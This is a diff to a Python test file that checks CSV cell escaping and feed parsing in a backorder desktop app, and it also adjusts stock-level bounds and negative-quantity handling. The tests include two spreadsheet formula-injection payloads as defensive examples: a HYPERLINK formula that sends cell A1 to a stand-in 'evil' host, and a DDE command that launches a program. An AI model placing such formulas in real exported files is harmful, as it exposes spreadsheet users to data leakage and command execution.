@@ -15,7 +15,8 @@ from backorder_desktop.domain.csv_cells import csv_text
 from backorder_desktop.domain.csv_cells import escape_cell
 from backorder_desktop.domain.csv_cells import unescape_cell
 from backorder_desktop.domain.feed_parsing import parse_feed
-from backorder_desktop.domain.stock import MAX_LEVEL
+from backorder_desktop.domain.stock_policy import STOCK_MAX
+from backorder_desktop.domain.stock_policy import STOCK_MIN
 
 PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?")
 HOSTILE = '=HYPERLINK("http://evil/"&A1,"x")'
@@ -62,7 +63,7 @@ _SKUS = st.tuples(st.sampled_from(["", "\t", "\r", "\r\n", "'", "=", "-", "@", "
 )
 
 
-@given(_SKUS.filter(lambda sku: sku.strip() != ""), st.integers(0, MAX_LEVEL))
+@given(_SKUS.filter(lambda sku: sku.strip() != ""), st.integers(STOCK_MIN, STOCK_MAX))
 @example(HOSTILE, 3)
 @example("\r=cmd|' /C calc'!A0", 0)
 def test_a_file_the_app_wrote_reads_back_the_same_sku(sku: str, quantity: int) -> None:
@@ -99,4 +100,4 @@ def test_a_quoted_negative_quantity_reads_as_negative() -> None:
     report = parse_feed(
         data, format="csv", sku_field="sku", quantity_field="quantity", subject="file", escaped_cells=True
     )
-    assert report.rows == () and [p.title for p in report.problems] == ["Negative quantity"]
+    assert [(row.sku, row.quantity) for row in report.rows] == [("A-1", -3)] and report.problems == ()
